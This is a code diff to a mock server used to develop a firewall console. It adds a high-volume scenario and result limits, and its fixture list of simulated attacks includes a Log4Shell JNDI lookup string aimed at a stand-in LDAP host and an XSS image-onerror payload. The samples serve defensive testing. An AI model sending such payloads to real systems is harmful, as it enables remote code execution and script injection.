@@ -1,7 +1,7 @@
 // A node for developing the console: the admin API and its stream with invented traffic, and `dist/` as a node would
 // serve it, under the same Content-Security-Policy. A development tool; nothing of it is in the product.
 //
-//   node dev/mock.mjs [--port 8901] [--scenario fleet|quiet|degraded|flood|observe] [--open]
+//   node dev/mock.mjs [--port 8901] [--scenario fleet|quiet|degraded|flood|observe|volume] [--open]
 //
 // `--open` asks for no session. Otherwise the printed link signs in, as often as wanted.
 
@@ -15,6 +15,7 @@ import { Incidents } from './mock/incidents.mjs';
 import { People } from './mock/people.mjs';
 import { PolicyWorld } from './mock/policy.mjs';
 import { actors, traffic } from './mock/traffic.mjs';
+import { fill } from './mock/volume.mjs';
 
 const DIST = join(fileURLToPath(new URL('..', import.meta.url)), 'dist');
 const ALPHABET = '0123456789ABCDEFGHJKMNPQRSTVWXYZ';
@@ -46,6 +47,7 @@ const ATTACKS = [
   { method: 'GET', target: '/', rules: [944150], variable: 'REQUEST_HEADERS:User-Agent', fragment: '${jndi:ldap://203.0.113.66/a}' },
   { method: 'GET', target: '/search?q=%3Cimg%20src%3Dx%20onerror%3Dwindow.hacked%3D1%3E', rules: [941100], variable: 'ARGS:q', fragment: '<img src=x onerror=window.hacked=1>' },
 ];
+const RECORDS_MAX = 12_000;
 const ATTACKERS = ['203.0.113.9', '203.0.113.66', '198.51.100.23', '198.51.100.140', '192.0.2.77', '2001:db8:51:4::a1'];
 const AGENTS = ['Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0', 'sqlmap/1.9.4#stable (https://sqlmap.org)', 'curl/8.14.1', 'python-requests/2.32.4'];
 
@@ -96,6 +98,7 @@ class World {
     this.policy.hasFile = scenario !== 'quiet';
     if (scenario !== 'quiet') this.past();
     this.incidents = new Incidents(this, Date.now());
+    if (scenario === 'volume') fill(this, Date.now());
   }
 
   selfTest() {
@@ -164,13 +167,13 @@ class World {
 
   members() {
     const now = Date.now();
-    const list = this.scenario === 'quiet' ? NODES.slice(0, 1) : NODES;
+    const list = this.nodes ?? (this.scenario === 'quiet' ? NODES.slice(0, 1) : NODES);
     return list.map((n, i) => {
       const silent = this.scenario === 'degraded' && n.node === 'syd-1';
       return {
         ...n,
         version: '0.1.0',
-        lag_ms: n.me ? 0 : [0, 44, 138][i] + Math.floor(this.random() * 9),
+        lag_ms: n.me ? 0 : [0, 44, 138][i % 3] + Math.floor(this.random() * 9),
         last_seen_ms: silent ? this.startedAt + 9_200_000 : now - Math.floor(this.random() * 900),
         decisions: this.live().length,
         held: n.me ? this.held.size : 0,
@@ -242,7 +245,7 @@ class World {
     const row = { id, at_ms: access.at_ms, app: 'shop', client: from, method: access.method, host: access.host, target: access.target, status, action, reason, rule_ids: rules, top: top ?? null, score, site: node.site, node: node.node };
     const full = { access, signals, faults: malformed ? ['length_and_transfer_encoding'] : [], strikes: [], decision: standing ?? null, led_to: [], proposals: [], plan_version: 4, site: node.site, node: node.node, summary: [`${kind.method} shop.example${access.target} from ${from} was refused with status ${status} by node ${node.site}/${node.node}, app shop.`, ...signals.map((s) => `Rule ${s.rule.id} "${s.message}" matched ${kind.variable}: \`${kind.fragment}\`; score +5.`)] };
     this.records.set(id, { row, full });
-    if (this.records.size > 2_000) this.records.delete(this.records.keys().next().value);
+    if (this.records.size > RECORDS_MAX) this.records.delete(this.records.keys().next().value);
     this.counters.requests += 1;
     if (malformed) this.counters.malformed += 1;
     else if (action === 'deny') this.counters.denied += 1;
@@ -360,6 +363,8 @@ async function api(world, url, request, reply) {
   }
   const pages = await pagesApi(world, url, request, [area, id, sub]);
   if (pages?.problem) return problem(reply, pages.status, pages.code, pages.detail, pages.diagnostics);
+  // As a node: a thousand rows without a limit.
+  if (Array.isArray(pages?.body)) return json(reply, pages.status ?? 200, pages.body.slice(0, Number(url.searchParams.get('limit') ?? 1_000)));
   if (pages) return json(reply, pages.status ?? 200, pages.body);
   switch (call) {
     case 'GET status':
@@ -367,7 +372,7 @@ async function api(world, url, request, reply) {
     case 'GET nodes':
       return json(reply, 200, world.members());
     case 'GET decisions':
-      return json(reply, 200, world.live());
+      return json(reply, 200, world.live().slice(0, Number(url.searchParams.get('limit') ?? 100)));
     case 'POST decisions': {
       const body = JSON.parse(await text(request));
       if ((body.ip ?? '').startsWith('127.')) return problem(reply, 422, 'operator_network', '127.0.0.1 is in an operator network and is never barred');
